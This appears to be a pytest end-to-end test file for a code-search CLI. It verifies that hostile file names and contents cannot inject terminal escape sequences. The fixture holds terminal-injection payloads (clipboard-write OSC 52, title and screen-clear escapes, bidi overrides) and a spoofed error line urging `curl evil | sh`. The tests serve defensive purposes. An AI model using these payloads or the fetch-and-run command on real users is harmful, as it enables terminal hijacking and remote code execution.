"""What a hostile tree can write to its reader's terminal: nothing but what can be seen."""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.e2e.harness import Lowtide

EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
OURS = re.compile(r"\x1b\[[0-9;]*m")
"""Colours."""
ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile(tree: Callable[..., Path]) -> Path:
    return tree(
        {
            "n\x1b]0;owned\x07\x1b[2J.py": "def lantern_room():\n    return 1\n",
            "body.py": f"def signal_tower():\n    '''watch {EVIL} the tower'''\n    return 2\n",
            "new\nlowtide: index damaged: run `curl evil | sh`.py": "def tower_newline():\n    return 3\n",
            "bidi\u202egpj.py": "def tower_bidi():\n    return 4\n",
            "dos.py": "def tower_dos():\r\n\treturn 5\r\n",
            "x.json": '{"\x1b[2Jtowerkey": {"a": 1}}',
            "h.md": f"# heading {EVIL} tower\n\ntext\n",
            ".lowtide.toml": "[model]\npath = 'x'\n",
        }
    )


def on_a_terminal(lowtide: Lowtide, *arguments: str | Path, **more: str) -> str:
    """What the command writes to a terminal, as text."""
    screen, terminal = os.openpty()
    with subprocess.Popen(
        lowtide.command(*arguments),
        env={**lowtide.env(), "TERM": "xterm-256color", **more},
        stdin=terminal,
        stdout=terminal,
        stderr=terminal,
        start_new_session=True,
    ):
        os.close(terminal)
        said = b""
        try:
            while block := os.read(screen, 65536):
                said += block
        except OSError:  # nobody writes to it any more
            pass
    os.close(screen)
    return said.decode("utf-8", "surrogateescape").replace("\r\n", "\n")


def test_no_escape_of_a_name_or_a_text_reaches_the_terminal(lowtide: Lowtide, hostile: Path) -> None:
    said = on_a_terminal(lowtide, "-q", "index", hostile)
    for arguments in (
        ["search", "tower", hostile],
        ["symbols", "tower", hostile],
        ["symbols", "heading", hostile],
        ["why", hostile / "n\x1b]0;owned\x07\x1b[2J.py"],
        ["why", hostile / "no\x1b]0;owned\x07.py"],
        ["index", hostile / "no\x1b]0;owned\x07"],
        ["search", "--lang", "\x1b]0;owned\x07", "tower", hostile],
        ["search", "-v", "--kind", "\x1b]0;owned\x07", "tower", hostile],
        ["nothing\x1b]0;owned\x07"],
        ["status", hostile],
    ):
        said = on_a_terminal(lowtide, *arguments)
        assert not ACTING.findall(OURS.sub("", said)), (arguments, said)
        assert "\nlowtide: index damaged" not in said


def test_names_and_lines_are_shown_as_what_they_are(lowtide: Lowtide, hostile: Path) -> None:
    lowtide.run("index", hostile)
    found = lowtide.run("search", "tower", hostile, "--limit", "20").stdout
    assert "bidi\\u202egpj.py:1" in found
    assert "new\\x0alowtide: index damaged: run `curl evil | sh`.py:1" in found
    assert "watch \\x1b]52;c;ZXZpbA==\\x07" in found
    assert "      return 5\n" in found, "a tab is spaces, and a line of another system's ends as all do"


def test_json_escapes_what_a_terminal_would_obey(lowtide: Lowtide, hostile: Path) -> None:
    lowtide.run("index", hostile)
    said = lowtide.run("--json", "search", "tower", hostile, "--limit", "20").stdout
    assert not ACTING.findall(said)
    hits = lowtide.json("search", "tower", hostile, "--limit", "20")["hits"]
    assert "bidi\u202egpj.py" in {hit["path"] for hit in hits}
    assert any(EVIL in hit["snippet"] for hit in hits)


@pytest.mark.parametrize("name", ["NO_COLOR", "TERM"])
def test_without_colours_there_is_no_escape_at_all(lowtide: Lowtide, hostile: Path, name: str) -> None:
    value = {"NO_COLOR": "1", "TERM": "dumb"}[name]
    commands: list[list[str | Path]] = [["index", hostile], ["search", "tower", hostile], ["status", hostile]]
    for arguments in commands:
        assert "\x1b" not in on_a_terminal(lowtide, *arguments, **{name: value})
    assert "\x1b" in on_a_terminal(lowtide, "search", "tower", hostile)
